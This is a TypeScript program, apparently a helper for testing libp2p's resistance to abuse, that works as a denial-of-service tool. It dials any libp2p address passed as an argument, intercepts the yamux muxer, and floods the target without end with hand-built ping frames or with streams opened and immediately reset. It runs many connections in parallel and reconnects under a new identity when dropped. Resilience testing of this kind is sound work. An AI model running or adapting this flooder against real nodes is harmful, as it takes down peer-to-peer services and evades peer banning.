/**
 * Attackers in a process of their own, by the parts that libp2p is made of: TCP and noise as they are, frames of yamux by hand. Told what to
 * do by its arguments: an address with /p2p, what to flood it with, and how many connections at a time.
 */
import { noise } from '@chainsafe/libp2p-noise'
import type { StreamMuxer, StreamMuxerFactory } from '@libp2p/interface'
import { tcp } from '@libp2p/tcp'
import { yamux } from '@libp2p/yamux'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'

const WINDOW_UPDATE = 1
const PING = 2
const SYN = 1
const RST = 8
const FRAMES = 4_096
const HEADER_BYTES = 12
const AGAIN_MS = 100

function header(type: number, flag: number, stream: number, length: number): Uint8Array {
  const bytes = new Uint8Array(HEADER_BYTES)
  const view = new DataView(bytes.buffer)
  view.setUint8(1, type)
  view.setUint16(2, flag)
  view.setUint32(4, stream)
  view.setUint32(8, length)
  return bytes
}

/** Frame by frame, what a flood is made of. */
const FLOODS: Readonly<Record<string, (index: number) => readonly Uint8Array[]>> = {
  pings: index => [header(PING, SYN, 0, index)],
  'streams that are reset': index => [
    header(WINDOW_UPDATE, SYN, 2 * index + 1, 0),
    header(WINDOW_UPDATE, RST, 2 * index + 1, 0),
  ],
}

const [address = '', flood = '', connections = '1'] = process.argv.slice(2)
const frames = FLOODS[flood]
if (frames === undefined) throw new Error(`no flood '${flood}'`)

/** The connection below is heard of where its muxer is made. */
function spying(onMuxer: (send: (bytes: Uint8Array) => boolean, onDrain: () => Promise<void>) => void) {
  const plain = yamux({ enableKeepAlive: false })
  return (): StreamMuxerFactory => {
    const factory = plain()
    const create = factory.createStreamMuxer.bind(factory)
    return Object.assign(factory, {
      createStreamMuxer(connection: Parameters<typeof create>[0]): StreamMuxer {
        const muxer = create(connection)
        // It would end the connection at the first answer, having asked nothing.
        muxer.onData = () => undefined
        onMuxer(
          bytes => connection.send(bytes),
          () => connection.onDrain(),
        )
        return muxer
      },
    })
  }
}

async function attack(): Promise<void> {
  let start = (_send: (bytes: Uint8Array) => boolean, _onDrain: () => Promise<void>): void => undefined
  const open = new Promise<[(bytes: Uint8Array) => boolean, () => Promise<void>]>(resolve => {
    start = (send, onDrain) => resolve([send, onDrain])
  })
  const libp2p = await createLibp2p({
    transports: [tcp()],
    connectionEncrypters: [noise()],
    streamMuxers: [spying((send, onDrain) => start(send, onDrain))],
    connectionMonitor: { enabled: false },
  })
  try {
    await libp2p.dial(multiaddr(address))
    const [send, onDrain] = await open
    process.stdout.write('begun\n')
    for (let index = 0; ; ) {
      const bytes = Buffer.concat(Array.from({ length: FRAMES }, () => frames!(index++)).flat())
      if (!send(bytes)) await onDrain()
      await new Promise(resolve => setImmediate(resolve))
    }
  } finally {
    await libp2p.stop()
  }
}

/** Who is thrown out comes again, as somebody else. */
async function attackOn(): Promise<never> {
  for (;;) {
    await attack().catch(() => undefined)
    await new Promise(resolve => setTimeout(resolve, AGAIN_MS))
  }
}

await Promise.all(Array.from({ length: Number(connections) }, attackOn))
